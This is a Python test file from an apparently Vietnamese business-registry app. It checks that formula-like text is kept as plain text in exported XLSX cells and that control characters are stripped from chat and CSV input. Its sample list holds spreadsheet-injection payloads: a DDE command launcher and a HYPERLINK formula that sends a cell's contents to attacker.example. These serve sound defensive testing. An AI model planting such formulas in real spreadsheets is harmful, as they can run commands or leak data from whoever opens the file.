"""Text from outside (typed in a chat, imported from a file) on its way into the database and out into files:
control characters removed on input, text that looks like a formula kept as text in every XLSX cell."""

from __future__ import annotations

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.styles import Font

from handlers.answers import clean_text
from models.cells import FORMULA_STARTS, sheet_cell
from models.registry import find_by_tax_code
from models.registry_io import import_enterprises
from models.text import without_control_characters, xml_safe

FORMULA_LIKE = ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "#N/A", "=cmd|' /C calc'!A0", "-", "=",
                '=HYPERLINK("http://attacker.example/?d="&C2,"Bấm")']


def test_every_start_of_a_formula_is_covered():
    assert all(text.startswith(FORMULA_STARTS) or text == "#N/A" for text in FORMULA_LIKE)


@pytest.mark.parametrize("write_only", [True, False], ids=["streamed", "ordinary"])
def test_formula_like_text_is_stored_as_text_and_read_back_as_typed(tmp_path, write_only):
    workbook = Workbook(write_only=write_only)
    sheet = workbook.create_sheet("Trang") if write_only else workbook.active
    values = [*FORMULA_LIKE, "Công ty A", 42, 1.5, None]
    for value in values:
        sheet.append([sheet_cell(sheet, value), sheet_cell(sheet, "ghi chú", font=Font(bold=True))])
    sheet.append([sheet_cell(sheet, "=2*2", number_format="@")])
    workbook.save(tmp_path / "book.xlsx")

    read = load_workbook(tmp_path / "book.xlsx")
    cells = [row[0] for row in (read["Trang"] if write_only else read.active).iter_rows()]
    assert [cell.value for cell in cells] == [*values, "=2*2"]
    assert [cell.coordinate for cell in cells if cell.data_type in ("f", "e")] == []
    assert [cell.quotePrefix for cell in cells] == [True] * len(FORMULA_LIKE) + [False] * 4 + [True]
    assert cells[-1].number_format == "@"


def test_a_control_character_in_a_cell_is_dropped_instead_of_breaking_the_file(tmp_path):
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Trang")
    sheet.append([sheet_cell(sheet, "lương\x0bthấp\x01"), sheet_cell(sheet, "=x\x1f")])
    workbook.save(tmp_path / "book.xlsx")
    assert [c.value for c in next(load_workbook(tmp_path / "book.xlsx")["Trang"].iter_rows())] == ["lươngthấp", "=x"]


def test_control_characters_become_line_breaks_or_go():
    assert without_control_characters("lương\x0bthấp") == "lương\nthấp"
    assert without_control_characters("a\r\nb\rc\x0cd\x85e") == "a\nb\nc\nd\ne"
    assert without_control_characters("Công ty\x01 ABC\x00\x1f\x7f\x9b") == "Công ty ABC"
    assert without_control_characters("cột 1\tcột 2\ndòng 2") == "cột 1\tcột 2\ndòng 2"
    assert xml_safe("a\x0bb\x01c\td\ne\rf\ud800\uffff") == "abc\td\ne\rf"


def test_clean_text_removes_control_characters_and_keeps_lines_and_tabs_of_multi_line_text():
    assert clean_text("Giám đốc nói:\nlương\x0bthấp\x01", min_length=3, max_length=4000) == \
        "Giám đốc nói:\nlương\nthấp"
    assert clean_text("Bảng:\n1\tmay\n2\tdệt", max_length=4000) == "Bảng:\n1\tmay\n2\tdệt"
    assert clean_text("Công ty\x01 ABC\x1f") == "Công ty ABC"
    assert clean_text("  một   dòng\t\tcó tab\x0b ") == "một dòng có tab"


def test_the_registry_import_removes_control_characters(session, tmp_path):
    source = tmp_path / "dn.csv"
    source.write_text('Tên doanh nghiệp,Mã số thuế,Địa chỉ\n"Công ty\x01 ABC",0600999002,"Lô A1,\x0bKCN Hòa Xá\x1f"\n',
                      encoding="utf-8")
    report = import_enterprises(session, source)
    assert report.written and report.created == 1
    enterprise = find_by_tax_code(session, "0600999002")
    assert (enterprise.name, enterprise.address) == ("Công ty ABC", "Lô A1, KCN Hòa Xá")
